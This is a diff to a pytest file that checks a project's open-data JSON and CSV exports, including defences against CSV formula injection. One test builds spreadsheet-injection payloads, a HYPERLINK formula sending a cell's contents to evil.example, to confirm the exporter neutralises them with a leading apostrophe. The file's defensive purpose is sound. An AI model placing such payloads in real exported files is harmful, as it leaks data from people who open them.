@@ -1,8 +1,11 @@
 """Open data: the published files are valid against their published schema and hold exactly the data.
 
-Two sources are checked the same way: ``build_open_data`` called directly, and the files of a
-real ``mkdocs build --strict`` (the session's ``built_site``), read back from disk. Round-trip
-means: every entity read back from the JSON equals, field for field, the one ``load_hub`` returns.
+Three sources are checked the same way: ``build_open_data`` called directly, the files of a real
+``mkdocs build --strict`` (the session's ``built_site``) read back from disk, and
+``build_open_data`` of a copy of the data whose text fields start with a character a spreadsheet
+reads as a formula (one copy per character). Round-trip means: every entity read back from the
+JSON, and every CSV cell read back with the csv module and the Open data page's rule for the
+leading apostrophe, equals, field for field, the one ``load_hub`` returns.
 """
 
 from __future__ import annotations
@@ -10,11 +13,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+from dataclasses import dataclass
 from pathlib import Path
 from typing import Any
 
 import jsonschema
 import pytest
+import yaml
+from helpers_data import copy_data
 from site_build import page_file
 
 from knowledge_hub import paths
@@ -25,14 +31,28 @@ from knowledge_hub.export import (
     PARAGRAPH_BREAK,
     SCHEMA_JSON,
     TABLES,
+    Column,
+    Table,
     build_open_data,
     build_schema,
+    render_csv,
 )
 from knowledge_hub.hub import Hub
+from knowledge_hub.loader import DataError, load_hub
 from knowledge_hub.models import Dialogue, Person, Practice, PublicationFile, Quote, Recommendation, Resource, Tag
 
 CSV_FILES = {table.path for table in TABLES}
 EXPECTED_FILES = {HUB_JSON, SCHEMA_JSON} | CSV_FILES
+
+FORMULA_CHARACTERS = ("=", "+", "-", "@", "\t", "\r")
+"""What OWASP's "CSV Injection" lists as the start of a formula in a spreadsheet cell."""
+
+APOSTROPHE = "'"
+
+
+def exact_text(cell: str) -> str:
+    """The Open data page's rule: remove the first character of a cell that starts with an apostrophe."""
+    return cell[1:] if cell.startswith(APOSTROPHE) else cell
 
 
 @pytest.fixture(scope="module")
@@ -48,9 +68,96 @@ def published(built_site: Path) -> dict[str, bytes]:
     return {path: (built_site / path).read_bytes() for path in EXPECTED_FILES}
 
 
-@pytest.fixture(scope="module", params=["direct", "published"])
-def files(request: pytest.FixtureRequest) -> dict[str, bytes]:
-    return request.getfixturevalue(request.param)
+FORMULA_FIELDS = {
+    "people.yaml": {"honorific", "name", "title", "organisation"},
+    "dialogues.yaml": {"label", "title", "hosts", "audience", "summary", "text", "attribution", "note"},
+    "resources.yaml": {"title", "appendix_title", "publisher", "description", "note"},
+    "practices.yaml": {"name", "description", "organisation"},
+    # not `summary`: its words must stand in the body, which is changed
+    "recommendations.yaml": {"title", "conclusion_title", "body"},
+}
+"""Per data file, the keys (at any depth) whose text the formula copy starts with the character."""
+
+EPIGRAPH_FIELDS = {"text", "attribution", "note"}
+"""In publication.yaml, only the introduction's and conclusion's epigraphs (quotes.csv) change."""
+
+
+def _start_with(node: Any, keys: set[str], start: str) -> Any:
+    if isinstance(node, dict):
+        return {
+            key: start + value
+            if key in keys and isinstance(value, str)
+            else [start + item for item in value]
+            if key in keys and isinstance(value, list) and all(isinstance(item, str) for item in value)
+            else _start_with(value, keys, start)
+            for key, value in node.items()
+        }
+    if isinstance(node, list):
+        return [_start_with(item, keys, start) for item in node]
+    return node
+
+
+def formula_hub(root: Path, start: str) -> Hub:
+    """A copy of the data whose text fields (FORMULA_FIELDS) all start with ``start``, loaded."""
+    data = copy_data(root)
+    for name, keys in FORMULA_FIELDS.items():
+        document = yaml.safe_load((data / name).read_text(encoding="utf-8"))
+        (data / name).write_text(yaml.safe_dump(_start_with(document, keys, start), allow_unicode=True), encoding="utf-8")
+    publication = yaml.safe_load((data / "publication.yaml").read_text(encoding="utf-8"))
+    for part in ("introduction", "conclusion"):
+        publication[part]["epigraph"] = _start_with(publication[part]["epigraph"], EPIGRAPH_FIELDS, start)
+    (data / "publication.yaml").write_text(yaml.safe_dump(publication, allow_unicode=True), encoding="utf-8")
+    return load_hub(data)
+
+
+FORMULA_STARTS = (*FORMULA_CHARACTERS, APOSTROPHE)
+"""The starts a formula copy is made with: each formula character, and the apostrophe itself."""
+
+
+class FormulaHubs:
+    """The formula copies, each loaded once, on first use."""
+
+    def __init__(self, root: Path) -> None:
+        self.root = root
+        self.hubs: dict[str, Hub] = {}
+
+    def __getitem__(self, start: str) -> Hub:
+        if start not in self.hubs:
+            try:
+                self.hubs[start] = formula_hub(self.root / f"start-{ord(start)}", start)
+            except DataError as error:
+                # Refused by the data check (with its file and line): such text never reaches a CSV.
+                assert error.faults
+                pytest.skip(f"the data check refuses text starting with {start!r}: {error.faults[0]}")
+        return self.hubs[start]
+
+
+@pytest.fixture(scope="module")
+def formula_hubs(tmp_path_factory: pytest.TempPathFactory) -> FormulaHubs:
+    return FormulaHubs(tmp_path_factory.mktemp("formula"))
+
+
+@dataclass(frozen=True)
+class OpenDataCase:
+    """Open data files and the hub they must hold exactly."""
+
+    hub: Hub
+    files: dict[str, bytes]
+
+
+@pytest.fixture(
+    scope="module", params=["direct", "published", *FORMULA_STARTS], ids=["direct", "published", *map(repr, FORMULA_STARTS)]
+)
+def case(request: pytest.FixtureRequest, hub: Hub, formula_hubs: FormulaHubs) -> OpenDataCase:
+    if request.param in ("direct", "published"):
+        return OpenDataCase(hub, request.getfixturevalue(request.param))
+    fixture = formula_hubs[request.param]
+    return OpenDataCase(fixture, build_open_data(fixture))
+
+
+@pytest.fixture(scope="module")
+def files(case: OpenDataCase) -> dict[str, bytes]:
+    return case.files
 
 
 def _json(files: dict[str, bytes], path: str) -> Any:
@@ -92,9 +199,10 @@ def test_schema_rejects_a_broken_document(files: dict[str, bytes]) -> None:
     assert "Not An Id" in messages and "'name' is a required property" in messages and "'extra'" in messages
 
 
-def test_hub_json_round_trips_to_the_yaml(files: dict[str, bytes], hub: Hub) -> None:
+def test_hub_json_round_trips_to_the_yaml(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     document = _json(files, HUB_JSON)
-    assert document["format_version"] == FORMAT_VERSION == "2"
+    assert document["format_version"] == FORMAT_VERSION == "3"
     assert PublicationFile.model_validate(document["publication"]) == hub.publication
     assert document["recommendations_introduction"] == hub.recommendations_intro
 
@@ -119,7 +227,8 @@ def test_hub_json_round_trips_to_the_yaml(files: dict[str, bytes], hub: Hub) -> 
         assert rebuilt == dialogue
 
 
-def test_hub_json_counts(files: dict[str, bytes], hub: Hub) -> None:
+def test_hub_json_counts(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     document = _json(files, HUB_JSON)
     counts = {key: len(value) for key, value in document.items() if isinstance(value, list)}
     assert counts == {
@@ -133,10 +242,17 @@ def test_hub_json_counts(files: dict[str, bytes], hub: Hub) -> None:
     }
 
 
-def _rows(files: dict[str, bytes], path: str) -> list[dict[str, str]]:
+def _cells(files: dict[str, bytes], path: str) -> list[list[str]]:
+    """The CSV as the csv module reads it, header row first; every cell as written."""
     text = files[path].decode("utf-8-sig")
     assert not text.startswith("\ufeff"), f"{path} has its byte-order mark twice"
-    return list(csv.DictReader(io.StringIO(text, newline="")))
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def _rows(files: dict[str, bytes], path: str) -> list[dict[str, str]]:
+    """Each row by column name, every cell with the Open data page's rule applied (the exact text)."""
+    header, *rows = _cells(files, path)
+    return [dict(zip(header, map(exact_text, row), strict=True)) for row in rows]
 
 
 def _split(cell: str) -> list[str]:
@@ -147,7 +263,8 @@ def _sources(items: Any) -> list[str]:
     return [f"{s.section}, p. {s.page}" if s.page else s.section for s in items]
 
 
-def test_every_csv_has_its_documented_columns_and_one_row_per_item(files: dict[str, bytes], hub: Hub) -> None:
+def test_every_csv_has_its_documented_columns_and_one_row_per_item(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     for table in TABLES:
         text = files[table.path].decode("utf-8-sig")
         header = next(csv.reader(io.StringIO(text, newline="")))
@@ -164,7 +281,46 @@ def test_every_csv_starts_with_the_byte_order_mark_excel_needs(files: dict[str, 
     assert "’" in quotes, "no curly apostrophe in the quotes: the check below proves nothing"
 
 
-def test_recommendations_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_no_csv_cell_starts_with_a_formula_character(files: dict[str, bytes]) -> None:
+    for path in sorted(CSV_FILES):
+        for number, row in enumerate(_cells(files, path), start=1):
+            for cell in row:
+                assert not cell.startswith(FORMULA_CHARACTERS), f"{path}, row {number}: {cell[:60]!r}"
+
+
+def _one_column(values: list[object]) -> Table:
+    return Table("test", "A table made for the test.", lambda hub: values, (Column("value", "The value.", lambda v, hub: v),))
+
+
+def test_text_starting_a_formula_gets_the_apostrophe_and_a_number_stays_a_number(hub: Hub) -> None:
+    texts = [start + 'HYPERLINK("https://evil.example/?d="&B2,"Source")' for start in FORMULA_STARTS]
+    harmless = ["Plain text", "A hyphen-ated - text", " =with a space first"]
+    numbers = [12, -3, 0]
+    lists = [["=first", "second"], ["first", "=second"]]
+    written = [row[0] for row in _cells({"t": render_csv(_one_column([*texts, *harmless, *numbers, *lists]), hub)}, "t")[1:]]
+    assert written == [
+        *(APOSTROPHE + text for text in texts),
+        *harmless,
+        *(str(number) for number in numbers),
+        APOSTROPHE + LIST_SEPARATOR.join(lists[0]),
+        LIST_SEPARATOR.join(lists[1]),
+    ]
+    assert [exact_text(cell) for cell in written[: len(texts)]] == texts
+
+
+@pytest.mark.parametrize("start", FORMULA_STARTS, ids=repr)
+def test_every_table_of_a_formula_copy_has_text_starting_with_the_character(start: str, formula_hubs: FormulaHubs) -> None:
+    # The formula cases prove something only if such text reaches every table.
+    hub = formula_hubs[start]
+    held = next(iter(hub.people.values())).name[:1]  # what the loaded data holds (the loader may normalise)
+    files = build_open_data(hub)
+    for path in sorted(CSV_FILES):
+        cells = [cell for row in _cells(files, path)[1:] for cell in row]
+        assert any(exact_text(cell).startswith(held) for cell in cells), f"{path}: no text starts with {held!r}"
+
+
+def test_recommendations_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/recommendations.csv")
     assert [row["slug"] for row in rows] == [r.slug for r in hub.recommendations]
     for row, rec in zip(rows, hub.recommendations, strict=True):
@@ -178,7 +334,8 @@ def test_recommendations_csv_round_trips(files: dict[str, bytes], hub: Hub) -> N
         assert _split(row["source"]) == _sources([rec.source])
 
 
-def test_dialogues_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_dialogues_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/dialogues.csv")
     assert [row["id"] for row in rows] == [d.id for d in hub.dialogues]
     for row, dialogue in zip(rows, hub.dialogues, strict=True):
@@ -195,7 +352,8 @@ def test_dialogues_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
         assert _split(row["quotes"]) == [q.id for q in dialogue.quotes]
 
 
-def test_practices_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_practices_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/practices.csv")
     assert [row["id"] for row in rows] == [p.id for p in hub.practices]
     for row, practice in zip(rows, hub.practices, strict=True):
@@ -206,7 +364,8 @@ def test_practices_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
         assert _split(row["source"]) == _sources(practice.source)
 
 
-def test_quotes_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_quotes_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/quotes.csv")
     assert [row["id"] for row in rows] == list(hub.quotes)
     for row in rows:
@@ -226,7 +385,8 @@ def test_quotes_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
         assert _split(row["recommendations"]) == [r.slug for r in hub.recommendations_by_quote.get(quote.id, [])]
 
 
-def test_people_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_people_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/people.csv")
     assert [row["id"] for row in rows] == list(hub.people)
     for row in rows:
@@ -236,7 +396,8 @@ def test_people_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
         assert _split(row["dialogues"]) == [d.id for d in hub.dialogues_by_person.get(person.id, [])]
 
 
-def test_resources_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
+def test_resources_csv_round_trips(case: OpenDataCase) -> None:
+    files, hub = case.files, case.hub
     rows = _rows(files, "data/resources.csv")
     assert [row["id"] for row in rows] == list(hub.resources)
     for row in rows:
@@ -246,6 +407,20 @@ def test_resources_csv_round_trips(files: dict[str, bytes], hub: Hub) -> None:
         assert row["link_url"] == (str(resource.link.url) if resource.link else "")
         assert _split(row["tags"]) == resource.tags
         assert _split(row["source"]) == _sources(resource.source)
+
+
+def test_open_data_page_says_how_formulas_are_kept_from_running(built_site: Path, parse_html: Any) -> None:
+    root = parse_html(page_file(built_site, paths.OPEN_DATA))
+    paragraphs = [p for p in root.css("p") if "as a formula" in p.text()]
+    assert len(paragraphs) == 1, "the page has no one paragraph about formulas"
+    text = " ".join(paragraphs[0].text().split())
+    codes = {code.text() for code in paragraphs[0].css("code")}
+    named = {"\t": "a tab", "\r": "a carriage return"}
+    for start in FORMULA_STARTS:
+        assert (named[start] in text) if start in named else (start in codes), f"the page does not name {start!r}"
+    # The rule the round-trip tests above apply (exact_text), in the page's words.
+    assert "remove the first character of every cell that starts with '" in text
+    assert "hub.json always holds the exact text" in text
 
 
 def test_open_data_page_links_every_file(built_site: Path, parse_html: Any) -> None:
